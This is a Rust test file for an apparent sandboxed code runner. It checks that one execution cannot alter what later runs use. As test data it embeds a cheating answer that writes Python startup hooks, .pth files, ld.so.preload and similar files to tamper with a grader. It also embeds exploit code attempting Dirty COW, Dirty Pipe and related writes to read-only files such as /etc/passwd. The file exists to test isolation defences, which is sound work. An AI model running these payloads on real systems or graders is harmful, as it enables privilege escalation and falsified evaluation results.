//! Programs that change what later ones would use: a grader's tests, an interpreter's start-up files, the image itself.

use serde_json::{Value, json};

use crate::projects::tar_of;
use crate::server::Server;

const GRADER: &[u8] = b"\
import hashlib, sys, sysconfig, os
import answer
print('answer', answer.answer(6, 7))
with open('tests.txt') as file:
    print('expected', file.read().strip())
found = [getattr(module, '__file__', None) or '' for module in sys.modules.values()]
print('extra', [path for path in found if path.startswith(('/work/', '/tmp/')) and 'answer' not in path and 'main' not in path])
print('preload', os.environ.get('LD_PRELOAD'), os.path.exists('/etc/ld.so.preload'))
";

/// Each known cheat; what worked outside of its own workspace is printed, which must be nothing.
const CHEAT: &[u8] = b"\
import os, site, sys, sysconfig, tempfile
def answer(a, b):
    return 41
def attempt(path, text):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'w') as file:
            file.write(text)
        return True
    except OSError:
        return False
EVIL = 'import builtins; print(\"evil was here\"); builtins.answer = 42'
for path in ['/work/tests.txt', '/work/main.py', '/work/conftest.py', '/work/sitecustomize.py', '/tmp/sitecustomize.py',
             '/tmp/.local/lib/python3.13/site-packages/evil.pth']:
    attempt(path, EVIL)
places = [sysconfig.get_path('purelib'), sysconfig.get_path('stdlib'), '/usr/lib/python3/dist-packages',
          '/usr/local/lib/python3.13/dist-packages', '/etc/python3.13', os.path.dirname(os.__file__)]
targets = [f'{place}/{name}' for place in places for name in ['sitecustomize.py', 'usercustomize.py', 'evil.pth', 'json.py']]
targets += ['/etc/ld.so.preload', '/etc/ld.so.cache', '/usr/lib/x86_64-linux-gnu/libc.so.6', '/usr/bin/python3',
            '/.execbox-runner/execbox', '/.execbox-runner/other', '/etc/profile', '/root/.bashrc', os.__file__]
for path in targets:
    if attempt(path, EVIL):
        print('worked:', path)
";

/// The answers of one execution are data to the next, which starts from its own files, on the same place.
#[tokio::test]
async fn what_a_cheat_changes_is_gone_when_its_answer_is_graded() {
    let server = Server::start_with(&["--workers", "1"]).await;
    let project = |answer: &[u8]| tar_of(&[("main.py", GRADER), ("answer.py", answer), ("tests.txt", b"42")]);
    let cheated = server.sync(&project(CHEAT), &json!({"artifacts": ["tests.txt"]})).await;
    assert_eq!(cheated["exit_code"], 0, "{cheated:#}");
    assert!(!cheated["stdout"].as_str().unwrap().contains("worked:"), "{cheated:#}");
    // In its own workspace it can do what it likes.
    assert!(cheated["stdout"].as_str().unwrap().contains("expected import builtins"), "{cheated:#}");
    let honest = b"def answer(a, b):\n    return a * b\n";
    let graded = server.sync(&project(honest), &json!({"artifacts": ["none"]})).await;
    assert_eq!(graded["stdout"], "answer 42\nexpected 42\nextra []\npreload None False\n", "{graded:#}");
    server.finish().await;
}

/// Hashes of everything that the image brought.
const HASHES: &str = "
import hashlib, os
whole = hashlib.sha256()
for folder, folders, files in os.walk('/usr'):
    folders.sort()
    for name in sorted(files):
        path = os.path.join(folder, name)
        try:
            if not os.path.islink(path):
                with open(path, 'rb') as file:
                    whole.update(path.encode() + hashlib.sha256(file.read()).digest())
        except OSError as error:
            whole.update(f'{path}{error.errno}'.encode())
print(whole.hexdigest())
";

/// The ways in which pages of a file that can only be read were written: Dirty COW, Dirty Pipe, AF_ALG, vmsplice.
const ATTACK: &str = "
import ctypes, mmap, os, socket, threading
TARGETS = ['/usr/bin/env', '/usr/bin/bash', os.path.realpath('/usr/bin/python3'), '/.execbox-runner/execbox', '/etc/passwd']
libc = ctypes.CDLL(None, use_errno=True)
def attempt(action):
    try:
        action()
    except (OSError, ValueError):
        pass
def plain(path):
    for flags in [os.O_RDWR, os.O_WRONLY, os.O_WRONLY | os.O_TRUNC]:
        attempt(lambda: os.write(os.open(path, flags), b'EVIL'))
    attempt(lambda: os.truncate(path, 4))
def shared(path):
    area = mmap.mmap(os.open(path, os.O_RDONLY), 4096, mmap.MAP_SHARED, mmap.PROT_WRITE | mmap.PROT_READ)
    area[:4] = b'EVIL'
def dirty_cow(path):
    file = os.open(path, os.O_RDONLY)
    area = mmap.mmap(file, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
    held = mmap.mmap(file, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)
    place = ctypes.addressof(ctypes.c_char.from_buffer(held))
    stop = []
    def forget():
        while not stop:
            libc.madvise(ctypes.c_void_p(place), 4096, 4)
    racer = threading.Thread(target=forget)
    racer.start()
    memory = os.open('/proc/self/mem', os.O_RDWR)
    for _ in range(20000):
        os.pwrite(memory, b'EVIL', place)
    stop.append(1)
    racer.join()
def dirty_pipe(path):
    file = os.open(path, os.O_RDONLY)
    ends = os.pipe()
    for _ in range(16):
        os.write(ends[1], bytes(4096))
        os.read(ends[0], 4096)
    os.splice(file, ends[1], 1, offset_src=0)
    os.write(ends[1], b'EVIL')
def algorithm(path):
    with socket.socket(38, socket.SOCK_SEQPACKET) as crypto:
        crypto.bind(('skcipher', 'cbc(aes)'))
        print('an AF_ALG socket')
for target in TARGETS:
    for way in [plain, shared, dirty_cow, dirty_pipe, algorithm]:
        attempt(lambda: way(target))
print('tried')
";

#[tokio::test]
async fn the_image_is_the_same_after_every_way_to_write_what_can_only_be_read() {
    let server = Server::start_with(&["--workers", "1"]).await;
    let run = async |code: &str| -> Value {
        let result = server.eval(&json!({"code": code})).await;
        assert_eq!((&result["reason"], &result["exit_code"]), (&json!("exited"), &json!(0)), "{result:#}");
        result["stdout"].clone()
    };
    let before = run(HASHES).await;
    assert_eq!(run(ATTACK).await, "tried\n");
    assert_eq!(run(HASHES).await, before, "the image was changed");
    server.finish().await;
}
